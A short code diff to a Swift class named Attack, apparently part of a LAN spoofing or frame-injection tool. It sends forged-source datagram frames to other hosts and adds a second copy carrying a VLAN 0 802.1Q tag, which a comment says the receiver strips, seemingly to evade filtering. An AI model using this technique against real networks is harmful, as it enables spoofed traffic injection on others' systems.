@@ -175,7 +175,10 @@ final class Attack {
                     let packet = Frame.datagram(text, from: source, to: destination, port: port)
                     for mac in attacker.others {
                         for own in [attacker.mac] + forged where own != mac {
-                            try attacker.socket.send(Frame.frame(of: packet, family, from: own, to: mac))
+                            let frame = Frame.frame(of: packet, family, from: own, to: mac)
+                            try attacker.socket.send(frame)
+                            // With a tag of VLAN 0, which whoever gets it takes off.
+                            try attacker.socket.send(frame[..<12] + [0x81, 0, 0, 0] + frame[12...])
                         }
                     }
                 }
